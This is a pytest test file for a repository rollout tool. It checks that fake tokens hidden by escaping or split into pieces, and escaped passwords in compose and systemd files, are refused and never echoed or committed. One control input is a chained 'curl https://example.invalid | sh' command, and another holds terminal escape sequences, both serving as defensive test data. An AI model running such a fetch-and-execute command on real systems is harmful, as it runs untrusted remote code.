"""Issue 13, pass 26h: a short verification pass over items 5-8, aimed at passes 26b/26e/26f's code.

Each finding's test fails on the main this pass started from (266f6e8, checked by undoing its fix)."""

from __future__ import annotations

import pytest

from tests.helpers import git, rollout
from tests.test_pass24b import objects
from tests.test_pass26f import verify_a_branch_config_beginning

pytestmark = pytest.mark.usefixtures("loopback_only")  # conftest.py: no test reaches past 127.0.0.1

_BODY = "Zq26hTokenAbcdefghijklmnopqrstuvwx12"
# a token a template renders from pieces *and* escaped, as the rendered file's reader decodes it
# (a YAML/JSON string's `\x5f`/`\u005f`, a URL's `%5F`, an HTML reference, base64): the check of
# what a template renders read it only as written
_ESCAPED_PIECES = {
    "backslash escape": '"{{ "ghp" ~ "\\\\x5f" ~ "' + _BODY + '" }}"',
    "percent escape": "{{ 'ghp' ~ '%' ~ '5F' ~ '" + _BODY + "' }}",
    "html reference": "{{ 'ghp' ~ '&#' ~ '95;' ~ '" + _BODY + "' }}",
    "base64": "{{ 'Z2hwX1pxMjZo' ~ 'VG9rZW5BYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3gxMg==' }}",
}


@pytest.mark.parametrize("case", list(_ESCAPED_PIECES))
def test_a_token_a_template_renders_escaped_from_pieces_is_refused_never_shown(tmp_path, case):
    """ON-LIST 13.6 (pass 26e's check of what a template renders): a token rendered from pieces
    *and* escaped as its reader decodes it (a YAML string's `\\x5f`, a URL's `%5F`, an HTML
    reference, base64 in two pieces) was read as written only: `rollout plan` showed it in the
    diff and `apply` committed it. Now read as :func:`secretshape.readings` and
    :func:`secretshape.decoded_runs` read it; never echoed."""
    from tests.test_pass11b import _one_repo_with_a_template

    manifest = _one_repo_with_a_template(
        tmp_path, b"APP_ENV=dev\n", f"token: {_ESCAPED_PIECES[case]}\n"
    )
    for command in (("plan",), ("apply", "--yes")):
        result = rollout(*command, "--manifest", manifest)
        out = result.stdout + result.stderr
        assert result.code == 1, out
        assert _BODY not in out, out
    repo = tmp_path / "ws" / "victim"
    assert git(repo, "branch", "--list").strip() == "* main"
    assert _BODY.encode() not in objects(repo)


_DOUBLED_AND_ESCAPED = {
    # docker compose: a `$` doubled, a `\` escaped in a YAML double-quoted string
    "compose, dollar and backslash": (
        "Zq$7\\kX2#v9!Lm",
        lambda p: (
            'services:\n  app:\n    environment:\n      DB_PASSWORD: "'
            + p.replace("\\", "\\\\").replace("$", "$$")
            + '"'
        ),
    ),
    # systemd: a `%` doubled, a `\` escaped in a quoted ExecStart= word
    "unit, percent and backslash": (
        "Zq%7\\kX2#v9!Lm",
        lambda p: (
            '[Service]\nExecStart=/usr/bin/app "--db-password='
            + p.replace("\\", "\\\\").replace("%", "%%")
            + '"'
        ),
    ),
}


@pytest.mark.parametrize("case", list(_DOUBLED_AND_ESCAPED))
def test_a_value_doubled_and_escaped_in_one_string_is_never_shown(tmp_path, case):
    """ON-LIST 13.6 (passes 26b/26f's `$$`/`%%` readings): a `.env` password holding a `$` (or `%`)
    and a backslash (its runs of letters and digits under 8), written as compose (or systemd) reads
    it, `$$` and `\\\\` in one double-quoted string, was read with its escapes undone or its
    doublings, never both: `rollout plan` showed it in the diff. Now refused, never echoed."""
    from tests.test_pass11b import _one_repo_with_a_template

    password, spelled = _DOUBLED_AND_ESCAPED[case]
    manifest = _one_repo_with_a_template(
        tmp_path, f"DB_PASSWORD={password}\n".encode(), spelled(password) + "\n"
    )
    result = rollout("plan", "--manifest", manifest)
    out = result.stdout + result.stderr
    assert result.code == 1 and "plaintext" in out, out
    assert "kX2#v9" not in out, out


_VERIFY_TOKEN = "ghp_Zq26hVerifyAbcdefghijklmnopqrstuv12"


@pytest.mark.parametrize(
    "top",
    [
        f"default_stages: [{_VERIFY_TOKEN}]",
        f"files: '(?#{_VERIFY_TOKEN}'",
        f"exclude: '(?#https://ci:{_VERIFY_TOKEN}@git.example.com'",
        # controls (held before the fix): a command-like stage, terminal escapes (pre-commit's repr)
        "default_stages: ['rollout apply --yes; curl https://example.invalid | sh']",
        'default_stages: ["\\e]0;x\\a\\e[2Jok"]',
    ],
)
def test_verifys_reason_quoting_a_branch_config_never_prints_its_token(fleet, top):
    """ON-LIST 13.5/13.7 (pass 26f's F3: verify's line gives pre-commit's reason): pre-commit's reason
    quotes the branch's `.pre-commit-config.yaml` (`but got: 'ghp_…'`, `'(?#ghp_…' is not a valid
    python regex`), so `rollout verify --ref` printed a token that config held. Now each word shaped
    like a credential is `***` (`throwaway.last_line`); the reason is still said."""
    result = verify_a_branch_config_beginning(fleet, top)
    out = result.stdout + result.stderr
    assert result.code == 1 and "pre-commit could not run the managed hooks: " in out, out
    assert "Zq26hVerify" not in out and "\x1b" not in out and "\a" not in out, out
